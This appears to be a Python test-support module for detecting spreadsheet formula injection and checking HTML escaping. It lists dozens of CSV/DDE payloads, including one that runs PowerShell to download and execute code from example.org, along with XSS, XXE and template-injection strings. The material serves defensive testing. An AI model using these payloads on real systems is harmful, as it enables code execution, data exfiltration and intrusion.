"""Texts that a spreadsheet may take for a formula or a link, and those that a browser may take for more than text.

Each of ``MARKUP`` that a browser obeys says so: it sets ``__pwned``, asks something of a network, opens a dialog, or
makes an element, an attribute or a style that no page of ours has.
"""

import csv
import io
import re

from sufficiency.harmless import PLAIN_NUMBER

ORDERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufffe\uffff]")
"""What a screen may take for an order, or shows in another place than where it stands."""
_RISKY = re.compile("[\\s'\"\u201c\u2018]*[=+@\uff1d\uff0b\uff0d\uff20-]|[\t\r\n]")


def formulas_in(text: str) -> list[str]:
    """The cells of a CSV that a spreadsheet may take for a formula: no number, and no apostrophe before them."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    risky = [cell for cell in cells if _RISKY.match(cell) and not cell.startswith("'")]
    return [cell for cell in risky if re.fullmatch(PLAIN_NUMBER, cell) is None]


PAYLOADS = [
    "=1+1",
    "=SUM(A1:A9)",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "@Home",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "=cmd|'/C calc'!A0",
    "=cmd|'/C powershell IEX(wget example.org/x)'!A0",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    '=DDE("cmd";"/C calc";"x")',
    '=DDEAUTO("cmd","/C calc","x")',
    '=HYPERLINK("http://example.org/?x="&A1,"click")',
    "=HYPERLINK(CONCATENATE('http://example.org/',A1))",
    '=WEBSERVICE("http://example.org/"&A1)',
    '=IMPORTXML("http://example.org","//a")',
    "=INDIRECT(\"'file:///etc/passwd'#$passwd.A1\")",
    "'=1+1",
    '"=1+1"',
    '"=1+1',
    "\u201c=1+1\u201d",
    '","=1+1',
    '";=1+1',
    "Oak;=1+1",
    "Oak|=1+1",
    "Oak\t=1+1",
    "Oak\n=1+1",
    '=1+1";=1+1',
    "{=1+1}",
    "http://example.org/",
    "internal:'Cover'!A1",
    "mailto:somebody@example.org",
]
SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "<a href='javascript:alert(1)'>x</a>",
    "{{ 7 * 7 }}{% raw %}",
]
MARKUP = [
    # what starts a script
    "<script>window.__pwned=1</script>",
    "<ScRiPt>window.__pwned=1</sCrIpT>",
    "<script src=//example.org/x.js></script>",
    "<script >window.__pwned=1</script >",
    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
    "<<script>window.__pwned=1//<</script>",
    "<script\x0c>window.__pwned=1</script>",
    "<script/x>window.__pwned=1</script>",
    "</script><script>window.__pwned=1</script>",
    "<script type=module>import '//example.org/x.js'</script>",
    # what ends what a page has open
    "</title><script>window.__pwned=1</script>",
    "</style><script>window.__pwned=1</script>",
    "</svg><script>window.__pwned=1</script>",
    "</table></div></main><script>window.__pwned=1</script>",
    "</textarea></noscript></template><img src=x onerror=window.__pwned=1>",
    "--><script>window.__pwned=1</script>",
    "<!--><script>window.__pwned=1</script>-->",
    "]]><script>window.__pwned=1</script>",
    "<![CDATA[<script>window.__pwned=1</script>]]>",
    "<?xml-stylesheet href='//example.org/x.css'?>",
    "<!DOCTYPE html><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    # what ends an attribute
    '" autofocus onfocus=window.__pwned=1 x="',
    "' autofocus onfocus=window.__pwned=1 x='",
    '"><svg onload=window.__pwned=1>',
    "'><svg onload=window.__pwned=1>",
    "` onmouseover=window.__pwned=1 x=`",
    "x tabindex=0 onfocus=window.__pwned=1",
    '"style="position:fixed;inset:0;background:url(//example.org/x)',
    # what happens
    "<img src=x onerror=window.__pwned=1>",
    "<img src=`x`onerror=window.__pwned=1>",
    "<img/src=x/onerror=window.__pwned=1>",
    "<body onload=window.__pwned=1>",
    "<details open ontoggle=window.__pwned=1>",
    "<input autofocus onfocus=window.__pwned=1>",
    "<video><source onerror=window.__pwned=1></video>",
    "<audio src=x onerror=window.__pwned=1>",
    "<marquee onstart=window.__pwned=1>",
    "<style onload=window.__pwned=1></style>",
    "<b style=animation-name:x onanimationstart=window.__pwned=1>",
    "<p id=x popover onbeforetoggle=window.__pwned=1>",
    # other languages inside a page
    "<svg><script>window.__pwned=1</script></svg>",
    "<svg><script href=data:text/javascript,window.__pwned=1 /></svg>",
    "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.__pwned=1><text y=20>Oak</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=window.__pwned=1></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=window.__pwned=1>'>",
    "<math href=javascript:window.__pwned=1>Oak</math>",
    "<noscript><p title='</noscript><img src=x onerror=window.__pwned=1>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.__pwned=1>",
    # links and frames
    "javascript:window.__pwned=1",
    "<a href=javascript:window.__pwned=1>Oak</a>",
    "<a href='java&#x0A;script:window.__pwned=1'>Oak</a>",
    "<a href=data:text/html,<script>opener.__pwned=1</script>>Oak</a>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "<iframe src=javascript:parent.__pwned=1></iframe>",
    "<object data=javascript:window.__pwned=1></object>",
    "<embed src=//example.org/x.svg>",
    "<form action=//example.org/><button autofocus>Oak</button></form>",
    "<meta http-equiv=refresh content='0;url=//example.org/'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<base href=//example.org/>",
    "<link rel=stylesheet href=//example.org/x.css>",
    "<link rel=prefetch href=//example.org/x>",
    # styles
    "<style>@import '//example.org/x.css';</style>",
    "<style>*{background:url(//example.org/x)}body{display:none}</style>",
    "}*{background:url(//example.org/x)}/*",
    "\\3c script\\3e window.__pwned=1",
    "expression(window.__pwned=1)",
    # what a template, or one more decoding, would turn into something
    "{{ 7 * 7 }}{% raw %}",
    "{% include 'report.css' %}{# x #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${window.__pwned=1}<%= 7*7 %>#{7*7}",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.__pwned=1&#60;/script&#62;",
    "&amp;lt;img src=x onerror=window.__pwned=1&amp;gt;",
    "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
    "+ADw-script+AD4-window.__pwned=1+ADw-/script+AD4-",
    "\uff1cscript\uff1ewindow.__pwned=1\uff1c/script\uff1e",
    "$\\mathdefault{x}$_{y}^2",
    # what is not seen, or turns what is
    "Oak\x00<script>window.__pwned=1</script>",
    "<scr\x00ipt>window.__pwned=1</scr\x00ipt>",
    "Oak \u202eloohcs\u202c \u2066<b>\u2069",
    "\u2028<script>window.__pwned=1</script>\u2029",
    "\x1b[2J\x1b]8;;http://example.org\x07Oak",
    "\x80\x9f<b>Oak</b>\xad",
    # several at once
    (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.__pwned=1 )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt"
        "/--!>\\x3csVg/<sVg/oNloAd=window.__pwned=1//>\\x3e"
    ),
    "'\"--></style></script><svg oNload=window.__pwned=1>{{7*7}}&quot;&apos;",
]
